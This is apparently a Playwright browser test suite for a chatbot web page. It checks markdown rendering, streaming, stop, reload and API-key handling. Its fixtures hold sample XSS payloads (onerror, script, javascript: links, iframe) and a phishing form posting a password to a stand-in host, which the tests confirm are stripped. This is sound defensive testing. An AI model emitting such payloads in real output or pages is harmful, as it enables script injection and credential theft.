import { existsSync, mkdirSync } from "node:fs";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FakeReply } from "../fakes/openai.js";
import { startWeb, type WebHarness } from "./harness.js";

const CHROMIUM = "/usr/bin/chromium";
const hasChromium = existsSync(CHROMIUM);
if (!hasChromium && process.env.CI === "true") {
  throw new Error(`${CHROMIUM} is missing; CI must run: apt-get install -y chromium`);
}
if (!hasChromium) console.warn(`browser tests skipped: ${CHROMIUM} is missing (apt-get install -y chromium)`);

const SHOTS = "test-results";

const MARKDOWN_ANSWER = [
  "Here is **bold** text and a list:",
  "",
  "- first item",
  "- second item",
  "",
  "```js",
  'const greeting = "hello";',
  "console.log(greeting, 'a long line that would overflow a phone screen if the code block did not scroll');",
  "```",
  "",
  "That is all.",
].join("\n");

/** Model output that tries to run script in the page. */
const HOSTILE_ANSWER = [
  'Look: <img src=x onerror="window.__pwned = 1">',
  "<script>window.__pwned = 2</script>",
  "[click me](javascript:window.__pwned=3)",
  '<a href="#" onclick="window.__pwned = 4">hi</a>',
  '<iframe src="javascript:parent.__pwned = 5"></iframe>',
].join("\n\n");

/** Model output that survives a default sanitiser: styles, a form, an external image (a tracking pixel). */
const SNEAKY_ANSWER = [
  '<p style="position:fixed;inset:0;background:red">Covered</p>',
  '<form action="https://evil.example/steal"><input name="password" placeholder="Your password"><button>Log in</button></form>',
  '![pixel](https://tracker.example/pixel.png) <img src="http://tracker.example/p.gif" alt="gif">',
  "[docs](https://example.com/docs) and [local](/ui/config) and [mail](mailto:a@b.example)",
  '<svg><image href="https://tracker.example/s.png"></image></svg>',
].join("\n\n");

function replyFor(message: string): FakeReply {
  if (message.startsWith("markdown")) return { text: MARKDOWN_ANSWER, chunkDelayMs: 25 };
  if (message.startsWith("hostile")) return { text: HOSTILE_ANSWER };
  if (message.startsWith("sneaky")) return { text: SNEAKY_ANSWER };
  if (message.startsWith("slow"))
    return { chunks: Array.from({ length: 300 }, (_, i) => `word${i} `), chunkDelayMs: 30 };
  if (message.startsWith("fail")) return { chunks: ["Partial ", "answer ", "here"], cutAfterChunks: 2 };
  return { text: `You said: ${message}` };
}

const lastUser = (body: { messages: Array<{ role: string; content: string }> }) =>
  body.messages.filter((m) => m.role === "user").at(-1)?.content ?? "";

const LAUNCH_ARGS = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  "--disable-quic",
];

describe.skipIf(!hasChromium)("chat page in Chromium", () => {
  let t: WebHarness;
  let browser: Browser;
  let page: Page;
  const pageErrors: string[] = [];

  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    t = await startWeb();
    t.fake.respond((body) => replyFor(lastUser(body)));
    browser = await chromium.launch({ executablePath: CHROMIUM, args: LAUNCH_ARGS });
    const context = await browser.newContext({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 2 });
    page = await context.newPage();
    page.setDefaultTimeout(10_000);
    page.on("pageerror", (err) => pageErrors.push(err.message));
    page.on("console", (msg) => {
      if (msg.type() !== "error") return;
      const from = msg.location().url;
      // Chrome reports a (blocked) inline handler while DOMPurify parses the hostile answer in its
      // inert document, and the answer's <img src=x> is a 404: both expected, neither runs anything.
      if (from.endsWith("/assets/purify.js") && msg.text().includes("Content Security Policy")) return;
      if (msg.text().includes("404") && from.endsWith("/x")) return;
      pageErrors.push(`${msg.text()} (${from})`);
    });
    page.on("dialog", (d) => {
      pageErrors.push(`dialog: ${d.message()}`);
      void d.dismiss();
    });
    await page.goto(t.baseUrl);
    await page.waitForSelector("body[data-ready]");
  });

  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });

  const rows = () => page.locator(".msg");
  const lastAnswer = () => page.locator(".msg.assistant").last();

  async function sendWithEnter(text: string) {
    await page.locator("#input").fill(text);
    await page.locator("#input").press("Enter");
  }

  async function waitForAnswerDone() {
    await page.waitForSelector(".msg.assistant.streaming", { state: "detached" });
    await page.locator("#send").waitFor({ state: "visible" });
  }

  it("streams a reply with the cursor, then shows it rendered without the cursor", async () => {
    expect(await page.locator("#empty").isVisible()).toBe(true);
    // Every text the streaming answer shows, as the user would have seen it.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { __seen: string[] }).__seen = seen;
      new MutationObserver(() => {
        const el = document.querySelector(".msg.assistant.streaming .bubble");
        if (el) seen.push(el.textContent ?? "");
      }).observe(document.getElementById("messages")!, {
        childList: true,
        subtree: true,
        characterData: true,
      });
    });
    await sendWithEnter("markdown please");
    await page.locator(".msg.user").last().waitFor();
    expect(await page.locator(".msg.user").last().textContent()).toBe("markdown please");

    // Mid-stream: some text, then the cursor glyph at the end.
    await page.waitForFunction(() => {
      const el = document.querySelector(".msg.assistant.streaming .bubble");
      const text = el?.textContent ?? "";
      // marked leaves newline text nodes between blocks; they are not visible.
      return text.length > 12 && text.trimEnd().endsWith("▌");
    });
    expect(await page.locator("#stop").isVisible()).toBe(true);
    await page.screenshot({ path: `${SHOTS}/web-chat-streaming.png` });

    await waitForAnswerDone();
    const seen = await page.evaluate(() => (window as unknown as { __seen: string[] }).__seen);
    expect(seen.length).toBeGreaterThan(3);
    // marked leaves newline text nodes between blocks; they are not visible.
    for (const text of seen) expect(text.trimEnd()).toMatch(/▌$/);
    const answer = lastAnswer();
    const text = (await answer.textContent()) ?? "";
    expect(text).not.toContain("▌");
    expect(text).toContain("That is all.");
    expect(await answer.locator("strong").textContent()).toBe("bold");
    expect(await answer.locator("li").count()).toBe(2);
    expect(await answer.locator("pre code").textContent()).toContain('const greeting = "hello";');
    // A long code line scrolls inside its block; the page itself never scrolls sideways.
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    await page.screenshot({ path: `${SHOTS}/web-chat-phone.png` });
  });

  it("Shift+Enter adds a line, Enter sends both lines", async () => {
    const input = page.locator("#input");
    await input.fill("");
    await input.type("first line");
    await input.press("Shift+Enter");
    await input.type("second line");
    expect(await rows().count()).toBe(2);
    await input.press("Enter");
    await waitForAnswerDone();
    expect(lastUser(t.fake.lastBody)).toBe("first line\nsecond line");
    expect(await lastAnswer().textContent()).toContain("You said: first line");
  });

  it("never runs script from the model's answer", async () => {
    await sendWithEnter("hostile answer please");
    await waitForAnswerDone();
    const answer = lastAnswer();
    expect(await answer.textContent()).toContain("Look:");
    const unsafe = await answer.evaluate((el) => ({
      handlers: el.querySelectorAll("[onerror], [onclick], [onload]").length,
      scripts: el.querySelectorAll("script, iframe").length,
      jsLinks: Array.from(el.querySelectorAll("a")).filter((a) =>
        a.getAttribute("href")?.startsWith("javascript:"),
      ).length,
    }));
    expect(unsafe).toEqual({ handlers: 0, scripts: 0, jsLinks: 0 });
    await answer.locator("a").first().click();
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  });

  it("keeps the conversation across a reload", async () => {
    const before = await rows().allTextContents();
    expect(before).toHaveLength(6);
    const id = await page.evaluate(() => localStorage.getItem("chatbot.conversationId"));
    expect(id).toMatch(/^[0-9a-f-]{36}$/);
    await page.reload();
    await page.waitForSelector("body[data-ready]");
    expect(await rows().allTextContents()).toEqual(before);
    expect(await page.locator(".msg.assistant").first().locator("pre code").count()).toBe(1);
  });

  it("drops styles, forms, inputs and external images from the answer; links stay http(s) with noopener", async () => {
    const requested: string[] = [];
    page.on("request", (r) => requested.push(r.url()));
    await sendWithEnter("sneaky answer please");
    await waitForAnswerDone();
    const answer = lastAnswer();
    expect(await answer.textContent()).toContain("Covered");
    const found = await answer.evaluate((el) => ({
      styled: el.querySelectorAll("[style]").length,
      forms: el.querySelectorAll("form, input, button, textarea, select").length,
      images: Array.from(el.querySelectorAll("img")).map((i) => i.getAttribute("src")),
      svg: el.querySelectorAll("svg, image").length,
      links: Array.from(el.querySelectorAll("a")).map((a) => ({
        href: a.getAttribute("href"),
        rel: a.getAttribute("rel"),
        text: a.textContent,
      })),
    }));
    expect(found.styled).toBe(0);
    expect(found.forms).toBe(0);
    expect(found.images).toEqual([]);
    expect(found.svg).toBe(0);
    // External images became links the user may choose to open; other schemes lost their href.
    expect(found.links.filter((l) => l.href !== null)).toEqual([
      { href: "https://tracker.example/pixel.png", rel: "noopener noreferrer", text: "pixel" },
      { href: "http://tracker.example/p.gif", rel: "noopener noreferrer", text: "gif" },
      { href: "https://example.com/docs", rel: "noopener noreferrer", text: "docs" },
    ]);
    expect(requested.filter((u) => u.includes("tracker.example"))).toEqual([]);
  });

  it("Stop ends the stream, keeps the partial answer and says it was stopped", async () => {
    const aborts = t.fake.clientAborts;
    await sendWithEnter("slow answer please");
    await page.waitForFunction(
      () => (document.querySelector(".msg.assistant.streaming")?.textContent ?? "").length > 20,
    );
    await page.locator("#stop").click();
    await waitForAnswerDone();
    const answer = lastAnswer();
    expect(await answer.locator(".note").textContent()).toBe("Stopped.");
    const shown = (await answer.locator(".bubble").textContent()) ?? "";
    expect(shown).toMatch(/^word0 word1 /);
    expect(shown).not.toContain("▌");
    await expect.poll(() => t.fake.clientAborts).toBe(aborts + 1);
  });

  it("shows a clear message when the model fails mid-answer", async () => {
    await sendWithEnter("fail please");
    await waitForAnswerDone();
    const answer = lastAnswer();
    expect((await answer.locator(".bubble").textContent())?.trim()).toBe("Partial answer");
    expect(await answer.locator(".note.error").textContent()).toMatch(/model|reach/i);
  });

  it("New conversation starts afresh", async () => {
    const oldId = await page.evaluate(() => localStorage.getItem("chatbot.conversationId"));
    await page.locator("#new-chat").click();
    expect(await rows().count()).toBe(0);
    expect(await page.locator("#empty").isVisible()).toBe(true);
    await sendWithEnter("hello again");
    await waitForAnswerDone();
    expect((await lastAnswer().textContent())?.trim()).toBe("You said: hello again");
    const sent = t.fake.lastBody.messages.filter((m: { role: string }) => m.role !== "system");
    expect(sent).toEqual([{ role: "user", content: "hello again" }]);
    const newId = await page.evaluate(() => localStorage.getItem("chatbot.conversationId"));
    expect(newId).not.toBe(oldId);
    expect(pageErrors).toEqual([]);
  });

  it("looks clean at desktop width too", async () => {
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.locator("#new-chat").click();
    await sendWithEnter("markdown please");
    await waitForAnswerDone();
    await page.screenshot({ path: `${SHOTS}/web-chat-desktop.png` });
    await page.setViewportSize({ width: 390, height: 844 });
  });
});

describe.skipIf(!hasChromium)("chat page without a model, behind an API key", () => {
  let t: WebHarness;
  let browser: Browser;

  beforeAll(async () => {
    t = await startWeb({ bot: { botOptions: { model: null } }, web: { apiKey: "page-key-0123456789" } });
    browser = await chromium.launch({ executablePath: CHROMIUM, args: LAUNCH_ARGS });
  });

  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });

  it("asks for the key, then says clearly that no model is configured", async () => {
    const page = await browser.newPage({ viewport: { width: 390, height: 844 } });
    await page.goto(t.baseUrl);
    await page.waitForSelector("body[data-ready]");
    expect(await page.locator("#notice").textContent()).toMatch(/No model is configured/);
    expect(await page.locator("#key-form").isVisible()).toBe(true);

    // Without the key the API refuses, and the page says so.
    await page.locator("#key-form button").click();
    await page.locator("#input").fill("hi");
    await page.locator("#input").press("Enter");
    await page.locator(".msg.assistant .note.error").waitFor();
    expect(await page.locator(".msg.assistant .note.error").textContent()).toMatch(/API key/);

    await page.locator("#key-input").fill("page-key-0123456789");
    await page.locator("#key-form button").click();
    await page.locator("#input").fill("hi again");
    await page.locator("#input").press("Enter");
    await page.locator(".msg.assistant .note.error").nth(1).waitFor();
    expect(await page.locator(".msg.assistant .note.error").nth(1).textContent()).toMatch(/OPENAI_API_KEY/);
    expect(await page.evaluate(() => localStorage.getItem("chatbot.apiKey"))).toBe("page-key-0123456789");
    await page.screenshot({ path: `${SHOTS}/web-chat-no-model.png` });
  });
});
